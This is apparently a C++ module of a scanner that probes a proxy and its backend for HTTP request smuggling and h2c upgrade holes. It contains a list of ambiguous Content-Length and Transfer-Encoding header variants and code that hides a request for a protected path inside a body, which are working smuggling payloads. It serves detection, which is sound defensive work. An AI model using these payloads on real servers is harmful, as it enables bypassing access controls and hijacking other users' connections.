// Requests over whose end, or over whose connection's use, a proxy and what stands behind it may disagree (RFC 9112,
// section 11.2).

#include <vector>

#include "tool/probe/Prober.h"

namespace Tool {

namespace {

struct Framing {
  std::vector<std::string> lines;
  bool in_chunks = true; ///< the body begins with the last chunk, behind which the hidden request stands
};

/// The ambiguous ways to say where a body ends; `size`: of the whole body.
std::vector<Framing> Framings(const std::string& size) {
  const std::string length = "Content-Length: " + size;
  const std::string chunked = "Transfer-Encoding: chunked";
  return {
      {{length}, false}, // unambiguous, unless the proxy does not pass it on
      {{length, chunked}},
      {{chunked, length}},
      {{"Content-Length: 5", chunked}},
      {{length, "Transfer-Encoding : chunked"}},
      {{length, "Transfer-Encoding: xchunked"}},
      {{length, "Transfer-Encoding: \"chunked\""}},
      {{length, "Transfer-Encoding:\vchunked"}},
      {{length, "Transfer-Encoding: identity", chunked}},
      {{length, "Transfer-Encoding: chunked, identity"}},
      {{length, "Transfer_Encoding: chunked"}},
      {{length, "Transfer-Encoding:\r\n chunked"}},
      {{length, "X-Rest: x\nTransfer-Encoding: chunked"}},
      {{length, "X-Rest: x\rTransfer-Encoding: chunked"}},
      {{"Content-Length: 0", length}, false},
      {{length, "Content-Length: 0"}, false},
      {{"Content-Length: 0, " + size}, false},
      {{"Content-Length: +" + size}, false},
      {{"Content-Length : " + size}, false},
      {{"Content_Length: " + size}, false},
  };
}

/// The beginning of a request for the protected target, hidden in a body. Where it is not taken for a part of that
/// body, a plain request for the open target that follows becomes its end, and gets its answer.
void ProbeHidden(Prober& prober) {
  const std::string hidden = "GET " + prober.Task().protected_target + '?' + prober.Marker() +
                             " HTTP/1.1\r\nHost: " + prober.Host() + "\r\nX-Rest: ";
  const ProbeRequest follower{prober.Task().open_target};
  const auto is_hidden_one = [&prober](const ProbeAnswer& answer) {
    return answer.Holds(prober.Marker()) || answer.status == 404 || (prober.IsSteady() && prober.IsThrough(answer));
  };
  for (const bool in_chunks : {true, false}) {
    const std::string body = (in_chunks ? "0\r\n\r\n" : "") + hidden;
    for (const Framing& framing : Framings(std::to_string(body.size()))) {
      if (framing.in_chunks != in_chunks) {
        continue;
      }
      ProbeRequest request{prober.Task().open_target, framing.lines};
      request.closes = false;
      request.body = body;
      const std::vector<ProbeAnswer> answers = prober.AskInARow({request, follower});
      const bool is_accepted = !answers.empty() && answers.front().status >= 200 && answers.front().status <= 299;
      if ((answers.size() > 1 && is_hidden_one(answers[1])) || (is_accepted && is_hidden_one(prober.Ask(follower)))) {
        prober.Found(Hole::Smuggling, request, "a request that followed got the hidden one's answer");
      }
    }
  }
}

void ProbeUpgrades(Prober& prober) {
  const std::string& marker = prober.Marker();
  const std::vector<std::vector<std::string>> tries = {
      {"Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA"},
      {"Connection: Upgrade", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA"},
      {"Connection: Upgrade", "Upgrade: " + marker},
  };
  for (const std::vector<std::string>& lines : tries) {
    ProbeRequest request{prober.Task().open_target, lines};
    request.closes = false;
    const ProbeAnswer answer = prober.Ask(request);
    if (answer.status == 101 || answer.Holds(marker)) {
      prober.Found(Hole::Upgrade, request,
                   answer.status == 101 ? "101" : SeenStatus(answer) + ", and the answer shows it");
    }
  }
}

} // namespace

void ProbeFraming(Prober& prober) {
  ProbeHidden(prober);
  ProbeUpgrades(prober);
}

} // namespace Tool
